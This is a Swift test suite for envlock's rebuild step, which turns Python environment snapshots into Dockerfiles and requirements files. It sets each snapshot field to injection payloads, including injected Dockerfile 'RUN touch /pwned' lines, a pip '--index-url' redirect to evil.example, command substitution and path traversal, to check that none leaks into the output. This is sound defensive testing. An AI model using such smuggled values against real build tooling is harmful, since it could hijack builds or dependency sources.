import EnvlockArchive
import EnvlockModel
import EnvlockRebuild
import EnvlockTestSupport
import Foundation
import Testing

/// Nothing a snapshot says can inject into what rebuild writes (issue #20, item 2). Every string
/// field of the snapshot model is set, one at a time, to hostile text (line breaks, quotes, `$`,
/// backslashes, backticks, NUL, Unicode separators, option- and Markdown-looking text); each result
/// is rebuilt through `OutputDirectory` and read back with the parsers its consumers use
/// (Tests/Fixtures/rebuild/check_outputs.py: the official Dockerfile parser, pip's requirements-file
/// parser, tomllib, Docker's env-file rules, REBUILD.md's structure), and with hadolint.
@Suite struct InjectionTests {
  /// A hostile text for every field.
  struct Payload: CustomStringConvertible, Sendable {
    var name: String
    var text: String
    var description: String { name }
  }

  static let payloads = [
    Payload(name: "instruction", text: "A=1\nRUN touch /pwned\nENV B"),
    Payload(name: "option-line", text: "vm\r\n--index-url https://evil.example/simple\n#"),
    Payload(name: "quotes", text: "q\"'`$(touch /pwned)`${HOME}\\"),
    Payload(name: "controls", text: "n\u{0}ul\u{1B}[31m\u{85}x\u{2028}y\u{1C}z"),
    Payload(name: "continuation", text: "x \\\nRUN touch /pwned \\"),
    Payload(name: "markup", text: "-rf | <b>x</b> [l](javascript:x) **`y`** # z"),
  ]

  /// A snapshot with its config file contents, as an archive carries them.
  struct Hostile {
    var snapshot: Snapshot
    var contents: [String: [UInt8]]
  }

  /// One string field of the model and how to set it; `validated` fields are checked against a
  /// grammar, so every payload (each holds a space or a control character) must raise a hazard.
  struct Mutation: Sendable {
    var field: String
    var conda = false
    var validated = false
    var apply: @Sendable (inout Hostile, String) -> Void
  }

  /// The clean snapshot every case starts from: an index pin with a system library, a VCS pin, an
  /// archive pin, an editable install, ipykernel with a notebook kernel, runtime and secret
  /// variables, data files with a link, project and machine config files, a capture warning; with
  /// `conda`, also conda records (a micromamba base).
  static func base(conda: Bool) -> Hostile {
    let digest = Digest(hex: String(repeating: "ab", count: 32))!
    let root = "/home/ana/proj"
    let prefix = root + "/.venv"
    let markers = MarkerEnvironment(
      implementationName: "cpython", implementationVersion: "3.11.7", osName: "posix",
      platformMachine: "x86_64",
      platformRelease: "6.1.0", platformSystem: "Linux", platformVersion: "#1", pythonFullVersion: "3.11.7",
      platformPythonImplementation: "CPython", pythonVersion: "3.11", sysPlatform: "linux")
    let interpreter = Interpreter(
      selection: InterpreterSelection(path: prefix, reason: "VIRTUAL_ENV"), implementation: "cpython",
      version: "3.11.7", executable: prefix + "/bin/python", realPath: "/usr/bin/python3.11", sha256: digest,
      libpython: nil, prefix: prefix, basePrefix: "/usr", execPrefix: prefix, isVirtualEnvironment: true,
      siteDirectories: [prefix + "/lib/python3.11/site-packages"], platform: "linux-x86_64",
      soabi: "cpython-311-x86_64-linux-gnu", extSuffix: ".so", multiarch: "x86_64-linux-gnu",
      libc: Libc(family: "glibc", version: "2.36"), compiler: "GCC 12.2.0", buildDate: "Mar 13 2023",
      markers: markers)
    let host = EnvlockModel.Host(
      os: OperatingSystem(
        id: "debian", versionId: "12", versionCodename: "bookworm",
        prettyName: "Debian GNU/Linux 12 (bookworm)"),
      kernelRelease: "6.1.0-18-amd64", architecture: "x86_64", libc: Libc(family: "glibc", version: "2.36"),
      cpu: CPU(model: "Xeon", vendor: "GenuineIntel", logicalCores: 8, flags: ["avx2"]),
      memoryBytes: 1 << 34,
      gpus: [GPU(name: "NVIDIA A10G", driverVersion: "535.104.05", cudaVersion: "12.2", memoryBytes: nil)],
      gpuProbe: "nvidia-smi")
    func package(_ name: String, _ version: String, direct: DirectURL? = nil, system: [String] = [])
      -> PythonPackage
    {
      PythonPackage(
        name: name, displayName: name, version: version, summary: "The \(name) package",
        requiresDist: ["beta>=2"], requiresPython: ">=3.8", providesExtra: ["io"],
        wheelTags: ["cp311-cp311-manylinux_2_17_x86_64"], installer: "pip", directUrl: direct,
        location: prefix + "/lib/python3.11/site-packages",
        record: RecordSummary(fileCount: 3, totalSize: 100, contentFingerprint: digest),
        systemDependencies: system)
    }
    let packages = [
      package("alpha", "1.0", system: ["libgomp1:amd64"]),
      package(
        "beta", "2.0",
        direct: DirectURL(
          url: "https://github.com/ana/beta.git",
          vcsInfo: .init(
            vcs: "git", commitId: String(repeating: "0123456789", count: 4), requestedRevision: "main"),
          subdirectory: "pkg")),
      package(
        "gamma", "3.0",
        direct: DirectURL(
          url: "https://files.example.org/gamma-3.0-py3-none-any.whl",
          archiveInfo: .init(hashes: ["sha256=" + String(repeating: "a", count: 64)])),
        system: ["libfoo1"]),
      package(
        "delta", "4.0", direct: DirectURL(url: "file:///home/ana/delta", dirInfo: .init(editable: true))),
      package("ipykernel", "6.29.0"),
    ]
    let kernel = JupyterKernel(
      name: "proj", resourceDirectory: prefix + "/share/jupyter/kernels/proj", displayName: "Python (proj)",
      language: "python",
      argv: [prefix + "/bin/python", "-m", "ipykernel_launcher", "-f", "{connection_file}"],
      env: [RecordedVariable(name: "MPLBACKEND", value: "agg")], interpreter: prefix + "/bin/python",
      pythonVersion: "3.11.7")
    var snapshot = Snapshot(
      capture: CaptureInfo(
        toolVersion: "0.1.0", time: Timestamp(secondsSinceEpoch: 1_795_927_711), hostName: "laptop",
        commandLine: ["envlock", "capture"], projectRoot: root),
      host: host, interpreter: interpreter, pythonPackages: packages,
      systemPackages: [
        SystemPackage(manager: .dpkg, name: "libgomp1", version: "12.2.0-14", architecture: "amd64"),
        SystemPackage(manager: .dpkg, name: "libfoo1", version: "1.0-1", architecture: "amd64"),
      ],
      environment: [
        RecordedVariable(
          name: "API_TOKEN", value: nil,
          redaction: Redaction(
            reason: "secret-looking name", fingerprint: nil, keyId: nil, maskedValue: "ab***")),
        RecordedVariable(name: "DATA_ROOT", value: root + "/data"),
        RecordedVariable(name: "MPLBACKEND", value: "agg"),
        RecordedVariable(name: "PIP_INDEX_URL", value: "https://pypi.example.org/simple"),
      ],
      dataFiles: [
        DataFile(path: "data/a.csv", size: 1, mode: 0o644, mtime: nil, sha256: digest),
        DataFile(path: "data/b.csv", size: 1, mode: 0o644, mtime: nil, sha256: digest),
        DataFile(
          path: "data/latest", kind: .symlink, size: 0, mode: 0o777, mtime: nil, sha256: nil,
          linkTarget: "a.csv"),
      ],
      configFiles: [
        ConfigFile(path: "@venv/pip.conf", size: 1, mode: 0o644, sha256: digest),
        ConfigFile(path: "config/logging.ini", size: 1, mode: 0o644, sha256: digest),
        ConfigFile(path: "config/settings.toml", size: 1, mode: 0o644, sha256: digest),
      ],
      notebooks: [
        NotebookEntry(
          path: "nb/analysis.ipynb", sha256: digest, nbformat: 4, nbformatMinor: 5,
          kernelspec: NotebookKernelspec(name: "proj", displayName: "Python (proj)", language: "python"),
          languageInfo: NotebookLanguageInfo(name: "python", version: "3.11.7"), kernel: kernel,
          environment: prefix)
      ],
      warnings: [
        CaptureWarning(
          code: .condaPrefixForeignPackage,
          message: "mystery is in the conda prefix but no conda record installed it",
          path: prefix + "/lib/python3.11/site-packages/mystery-0.1.dist-info")
      ])
    if conda {
      snapshot.condaPackages = [
        CondaPackage(
          name: "numpy", version: "1.26.4", build: "py311h64a7726_0", buildNumber: 0, channel: "conda-forge",
          subdir: "linux-64", md5: nil, sha256: nil),
        CondaPackage(
          name: "python", version: "3.11.7", build: "hab00c5b_0_cpython", buildNumber: 0,
          channel: "https://conda.anaconda.org/conda-forge", subdir: "linux-64", md5: nil, sha256: nil),
      ]
    }
    return Hostile(
      snapshot: snapshot,
      contents: [
        "@venv/pip.conf": Array("[global]\ntimeout = 60\n".utf8),
        "config/logging.ini": Array("[loggers]\nkeys = root\n".utf8),
        "config/settings.toml": Array("debug = false\n".utf8),
      ])
  }

  /// Sets a field of the Python package `name`.
  static func package(_ name: String, _ set: @escaping @Sendable (inout PythonPackage, String) -> Void)
    -> @Sendable (inout Hostile, String) -> Void
  {
    { hostile, value in
      for i in hostile.snapshot.pythonPackages.indices where hostile.snapshot.pythonPackages[i].name == name {
        set(&hostile.snapshot.pythonPackages[i], value)
      }
    }
  }

  /// Sets a field of the variable `name`.
  static func variable(_ name: String, _ set: @escaping @Sendable (inout RecordedVariable, String) -> Void)
    -> @Sendable (inout Hostile, String) -> Void
  {
    { hostile, value in
      for i in hostile.snapshot.environment.indices where hostile.snapshot.environment[i].name == name {
        set(&hostile.snapshot.environment[i], value)
      }
    }
  }

  /// Sets a field of the interpreter.
  static func interpreter(_ set: @escaping @Sendable (inout Interpreter, String) -> Void)
    -> @Sendable (inout Hostile, String) -> Void
  {
    { hostile, value in set(&hostile.snapshot.interpreter!, value) }
  }

  /// Sets a field of the host.
  static func host(_ set: @escaping @Sendable (inout EnvlockModel.Host, String) -> Void)
    -> @Sendable (inout Hostile, String) -> Void
  {
    { hostile, value in set(&hostile.snapshot.host!, value) }
  }

  /// Sets a field of the notebook.
  static func notebook(_ set: @escaping @Sendable (inout NotebookEntry, String) -> Void)
    -> @Sendable (inout Hostile, String) -> Void
  {
    { hostile, value in set(&hostile.snapshot.notebooks[0], value) }
  }

  /// Renames a config file (its content goes with it, as in an archive).
  static func configPath(_ old: String) -> @Sendable (inout Hostile, String) -> Void {
    { hostile, value in
      for i in hostile.snapshot.configFiles.indices where hostile.snapshot.configFiles[i].path == old {
        hostile.snapshot.configFiles[i].path = value
      }
      hostile.contents[value] = hostile.contents.removeValue(forKey: old)
    }
  }

  /// Every string field of the snapshot model that a rebuild reads or could read.
  static let mutations: [Mutation] = [
    Mutation(field: "capture.host_name") { $0.snapshot.capture.hostName = $1 },
    Mutation(field: "capture.tool_version") { $0.snapshot.capture.toolVersion = $1 },
    Mutation(field: "capture.project_root") { $0.snapshot.capture.projectRoot = $1 },
    Mutation(field: "capture.command_line") { $0.snapshot.capture.commandLine = [$1] },
    Mutation(field: "host.os.id", apply: host { $0.os.id = $1 }),
    Mutation(field: "host.os.version_codename", apply: host { $0.os.versionCodename = $1 }),
    Mutation(field: "host.os.pretty_name", apply: host { $0.os.prettyName = $1 }),
    Mutation(
      field: "host.os.id (not debian, pretty name)",
      apply: host { $0.os = OperatingSystem(id: "x", prettyName: $1) }),
    Mutation(field: "host.kernel_release", apply: host { $0.kernelRelease = $1 }),
    Mutation(field: "host.architecture", apply: host { $0.architecture = $1 }),
    Mutation(field: "host.libc.family", apply: host { $0.libc?.family = $1 }),
    Mutation(field: "host.libc.version", apply: host { $0.libc?.version = $1 }),
    Mutation(field: "host.cpu.model", apply: host { $0.cpu.model = $1 }),
    Mutation(field: "host.gpus.name", apply: host { $0.gpus[0].name = $1 }),
    Mutation(field: "host.gpus.driver_version", apply: host { $0.gpus[0].driverVersion = $1 }),
    Mutation(field: "host.gpus.cuda_version", apply: host { $0.gpus[0].cudaVersion = $1 }),
    Mutation(field: "host.gpu_probe", apply: host { $0.gpuProbe = $1 }),
    Mutation(field: "interpreter.implementation", apply: interpreter { $0.implementation = $1 }),
    Mutation(field: "interpreter.version", validated: true, apply: interpreter { $0.version = $1 }),
    Mutation(field: "interpreter.executable", apply: interpreter { $0.executable = $1 }),
    Mutation(field: "interpreter.real_path", apply: interpreter { $0.realPath = "/usr/bin/" + $1 }),
    Mutation(field: "interpreter.prefix", apply: interpreter { $0.prefix = $1 }),
    Mutation(field: "interpreter.platform", apply: interpreter { $0.platform = $1 }),
    Mutation(field: "interpreter.selection.path", apply: interpreter { $0.selection.path = $1 }),
    Mutation(field: "interpreter.soabi", apply: interpreter { $0.soabi = $1 }),
    Mutation(field: "interpreter.libc.version", apply: interpreter { $0.libc?.version = $1 }),
    Mutation(
      field: "interpreter.markers.implementation_name", validated: true,
      apply: interpreter { $0.markers.implementationName = $1 }),
    Mutation(
      field: "interpreter.markers.sys_platform", validated: true,
      apply: interpreter { $0.markers.sysPlatform = $1 }),
    Mutation(
      field: "interpreter.markers.platform_machine", validated: true,
      apply: interpreter { $0.markers.platformMachine = $1 }),
    Mutation(
      field: "interpreter.markers.python_full_version",
      apply: interpreter { $0.markers.pythonFullVersion = $1 }),
    Mutation(field: "python_packages.name", validated: true, apply: package("alpha") { $0.name = $1 }),
    Mutation(field: "python_packages.display_name", apply: package("alpha") { $0.displayName = $1 }),
    Mutation(field: "python_packages.version", validated: true, apply: package("alpha") { $0.version = $1 }),
    Mutation(field: "python_packages.summary", apply: package("alpha") { $0.summary = $1 }),
    Mutation(field: "python_packages.requires_dist", apply: package("alpha") { $0.requiresDist = [$1] }),
    Mutation(
      field: "python_packages.requires_python", validated: true,
      apply: package("alpha") { $0.requiresPython = $1 }),
    Mutation(field: "python_packages.provides_extra", apply: package("alpha") { $0.providesExtra = [$1] }),
    Mutation(
      field: "python_packages.wheel_tags", validated: true, apply: package("alpha") { $0.wheelTags = [$1] }),
    Mutation(field: "python_packages.installer", apply: package("alpha") { $0.installer = $1 }),
    Mutation(field: "python_packages.location", apply: package("alpha") { $0.location = $1 }),
    Mutation(
      field: "python_packages.system_dependencies", validated: true,
      apply: package("alpha") { $0.systemDependencies = [$1] }),
    Mutation(
      field: "direct_url.url (vcs)", validated: true, apply: package("beta") { $0.directUrl?.url = $1 }),
    Mutation(
      field: "direct_url.vcs_info.vcs", validated: true,
      apply: package("beta") { $0.directUrl?.vcsInfo?.vcs = $1 }),
    Mutation(
      field: "direct_url.vcs_info.commit_id", validated: true,
      apply: package("beta") { $0.directUrl?.vcsInfo?.commitId = $1 }),
    Mutation(
      field: "direct_url.vcs_info.requested_revision",
      apply: package("beta") { $0.directUrl?.vcsInfo?.requestedRevision = $1 }),
    Mutation(
      field: "direct_url.subdirectory", validated: true,
      apply: package("beta") { $0.directUrl?.subdirectory = $1 }),
    Mutation(
      field: "direct_url.url (archive)", validated: true, apply: package("gamma") { $0.directUrl?.url = $1 }),
    Mutation(
      field: "direct_url.archive_info.hashes",
      apply: package("gamma") { $0.directUrl?.archiveInfo = .init(hashes: ["sha256=" + $1]) }),
    Mutation(
      field: "direct_url.url (editable)", validated: true, apply: package("delta") { $0.directUrl?.url = $1 }),
    Mutation(field: "system_packages.name") { $0.snapshot.systemPackages[0].name = $1 },
    Mutation(field: "system_packages.version", validated: true) {
      $0.snapshot.systemPackages[0].version = $1
    },
    Mutation(field: "system_packages.architecture") { $0.snapshot.systemPackages[0].architecture = $1 },
    Mutation(field: "environment.name", validated: true, apply: variable("MPLBACKEND") { $0.name = $1 }),
    Mutation(field: "environment.value", apply: variable("MPLBACKEND") { $0.value = $1 }),
    Mutation(
      field: "environment.value (under the project root)",
      apply: variable("DATA_ROOT") { $0.value = "/home/ana/proj/" + $1 }),
    Mutation(
      field: "environment.name (secret)", validated: true, apply: variable("API_TOKEN") { $0.name = $1 }),
    Mutation(
      field: "environment.redaction.reason", apply: variable("API_TOKEN") { $0.redaction?.reason = $1 }),
    Mutation(
      field: "environment.redaction.masked_value",
      apply: variable("API_TOKEN") { $0.redaction?.maskedValue = $1 }),
    Mutation(
      field: "environment.value (PIP_INDEX_URL)", validated: true,
      apply: variable("PIP_INDEX_URL") { $0.value = $1 }),
    Mutation(field: "config content (pip.conf index-url)", validated: true) { hostile, value in
      hostile.snapshot.environment.removeAll { $0.name == "PIP_INDEX_URL" }
      hostile.contents["@venv/pip.conf"] = Array("[global]\nindex-url = \(value)\n".utf8)
    },
    Mutation(field: "data_files.path") { $0.snapshot.dataFiles[0].path = $1 },
    Mutation(field: "data_files.path (link)") { $0.snapshot.dataFiles[2].path = $1 },
    Mutation(field: "data_files.link_target") { $0.snapshot.dataFiles[2].linkTarget = $1 },
    Mutation(field: "data_files.path (traversal)", validated: true) {
      $0.snapshot.dataFiles[2].path = "../../" + $1
    },
    Mutation(field: "config_files.path", apply: configPath("config/settings.toml")),
    Mutation(field: "config_files.path (machine)", apply: configPath("@venv/pip.conf")),
    Mutation(field: "config_files.path (traversal)", validated: true) { hostile, value in
      configPath("config/settings.toml")(&hostile, "../" + value)
    },
    Mutation(field: "notebooks.path", apply: notebook { $0.path = $1 }),
    Mutation(field: "notebooks.kernelspec.name", apply: notebook { $0.kernelspec?.name = $1 }),
    Mutation(field: "notebooks.kernelspec.display_name", apply: notebook { $0.kernelspec?.displayName = $1 }),
    Mutation(field: "notebooks.kernel.name", validated: true, apply: notebook { $0.kernel?.name = $1 }),
    Mutation(field: "notebooks.kernel.display_name", apply: notebook { $0.kernel?.displayName = $1 }),
    Mutation(
      field: "notebooks.kernel.env.name", validated: true, apply: notebook { $0.kernel?.env[0].name = $1 }),
    Mutation(field: "notebooks.kernel.env.value", apply: notebook { $0.kernel?.env[0].value = $1 }),
    Mutation(
      field: "notebooks.kernel.resource_directory", apply: notebook { $0.kernel?.resourceDirectory = $1 }),
    Mutation(field: "notebooks.kernel.argv", apply: notebook { $0.kernel?.argv = [$1] }),
    Mutation(field: "notebooks.environment", apply: notebook { $0.environment = $1 }),
    Mutation(field: "notebooks.language_info.version", apply: notebook { $0.languageInfo?.version = $1 }),
    Mutation(field: "warnings.message") { $0.snapshot.warnings[0].message = $1 },
    Mutation(field: "warnings.path") { $0.snapshot.warnings[0].path = $1 },
    Mutation(field: "conda_packages.name", conda: true, validated: true) {
      $0.snapshot.condaPackages[0].name = $1
    },
    Mutation(field: "conda_packages.version", conda: true, validated: true) {
      $0.snapshot.condaPackages[0].version = $1
    },
    Mutation(field: "conda_packages.build", conda: true, validated: true) {
      $0.snapshot.condaPackages[0].build = $1
    },
    Mutation(field: "conda_packages.channel", conda: true, validated: true) {
      $0.snapshot.condaPackages[0].channel = $1
    },
    Mutation(field: "conda_packages.subdir", conda: true) { $0.snapshot.condaPackages[0].subdir = $1 },
  ]

  /// What envlock meant the files of `plan` to hold, for check_outputs.py.
  static func expected(_ plan: RebuildPlan, clean: String) -> [String: Any] {
    var commands: [[String]] = []
    for kernel in plan.kernels {
      var words = ["python", "-m", "ipykernel", "install", "--sys-prefix", "--name", kernel.name]
      if let displayName = kernel.displayName { words += ["--display-name", displayName] }
      for variable in kernel.env { words += ["--env", variable.name, variable.text] }
      commands.append(words)
    }
    func path(_ text: String) -> String { text.hasPrefix("-") ? "./" + text : text }
    for link in plan.snapshot.dataFiles where link.kind == .symlink {
      commands.append(["ln", "-sfn", path(link.linkTarget ?? ""), path(link.path)])
    }
    return [
      "clean": clean,
      "env": Dictionary(plan.environment.runtime.map { ($0.name, $0.text) }, uniquingKeysWith: { $1 }),
      "requirements": plan.pins.map(\.package.name),
      "apt": plan.apt.install.map(\.spec),
      "conda": plan.condaSpecs,
      "commands": commands,
      "hazards": plan.hazards.count,
    ]
  }

  /// Writes a case's files, its JSON report and expected.json under `root/name`.
  static func write(_ hostile: Hostile, name: String, clean: String, root: URL) throws -> RebuildPlan {
    let source = SnapshotFile(
      snapshot: hostile.snapshot, digest: Fixtures.digest, configContents: hostile.contents)
    let plan = try RebuildPlan.make(source, options: RebuildOptions(toolVersion: "0.1.0"))
    let folder = root.appendingPathComponent(name)
    try OutputDirectory.write(plan, to: folder.path, force: false)
    try Data(try CanonicalJSON.encode(RebuildReport(plan))).write(
      to: folder.appendingPathComponent("report.json"))
    try JSONSerialization.data(withJSONObject: expected(plan, clean: clean), options: [.sortedKeys])
      .write(to: folder.appendingPathComponent("expected.json"))
    return plan
  }

  @Test(arguments: payloads)
  func hostileFieldsInjectNothing(_ payload: Payload) throws {
    let root = try TestSupport.temporaryDirectory("envlock-injection")
    for conda in [false, true] {
      _ = try Self.write(
        Self.base(conda: conda), name: conda ? "clean-conda" : "clean",
        clean: conda ? "clean-conda" : "clean", root: root)
    }
    for (index, mutation) in Self.mutations.enumerated() {
      var hostile = Self.base(conda: mutation.conda)
      mutation.apply(&hostile, payload.text)
      let plan = try Self.write(
        hostile, name: "case-\(index)", clean: mutation.conda ? "clean-conda" : "clean", root: root)
      if mutation.validated {
        #expect(
          plan.hazards.contains { $0.code == "unrepresentable-value" },
          "\(mutation.field): no unrepresentable-value hazard")
      }
    }
    let check = try TestSupport.run(
      "python3", [Fixtures.scripts.appendingPathComponent("check_outputs.py").path, root.path])
    #expect(check.status == 0, "\(Self.label(check.stdout))\(check.stderr)")
    let dockerfiles = try FileManager.default.contentsOfDirectory(atPath: root.path).sorted().map {
      root.appendingPathComponent($0).appendingPathComponent("Dockerfile").path
    }
    let lint = try TestSupport.run("hadolint", ["--no-color"] + dockerfiles)
    #expect(lint.status == 0 && lint.stdout.isEmpty, "\(Self.label(lint.stdout))\(lint.stderr)")
  }

  /// The checker's output with `case-N` replaced by the field it mutated.
  static func label(_ text: String) -> String {
    var text = text
    for (index, mutation) in mutations.enumerated().reversed() {
      for end in [":", "/"] {
        text = text.replacingOccurrences(
          of: "case-\(index)\(end)", with: "case-\(index) (\(mutation.field))\(end)")
      }
    }
    return text
  }
}
